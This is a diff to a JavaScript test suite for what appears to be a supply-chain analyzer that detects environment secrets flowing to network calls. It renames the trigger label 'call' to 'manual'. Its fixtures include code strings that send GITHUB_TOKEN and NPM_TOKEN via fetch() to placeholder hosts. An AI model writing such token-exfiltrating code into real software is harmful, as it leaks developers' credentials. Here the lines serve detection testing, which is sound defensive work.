@@ -65,7 +65,7 @@ describe("cross-file flows", () => {
       "main.js": "module.exports = { token: () => process.env.GITHUB_TOKEN };",
       "other.js": "const { token } = require('selfref');\nfetch('https://o.example.invalid', { body: token() });",
     });
-    expect(flowSummary(facts)).toEqual(["env-secret -> http https://o.example.invalid @other.js:2 (call)"]);
+    expect(flowSummary(facts)).toEqual(["env-secret -> http https://o.example.invalid @other.js:2 (manual)"]);
   });
 });
 
@@ -87,9 +87,9 @@ describe("triggers", () => {
     expect(local.flows[0]!.sink.trigger).toBe("import");
   });
 
-  it("files reached from no entry point or script are call", async () => {
+  it("files reached from no entry point or script are manual", async () => {
     const facts = await analyze({ "index.js": "", "tools/x.js": "fetch('https://c.example.invalid', { body: process.env.NPM_TOKEN });" });
-    expect(facts.flows[0]!.sink.trigger).toBe("call");
+    expect(facts.flows[0]!.sink.trigger).toBe("manual");
   });
 
   it("a postinstall `node file.js` makes that file and its requires install", async () => {
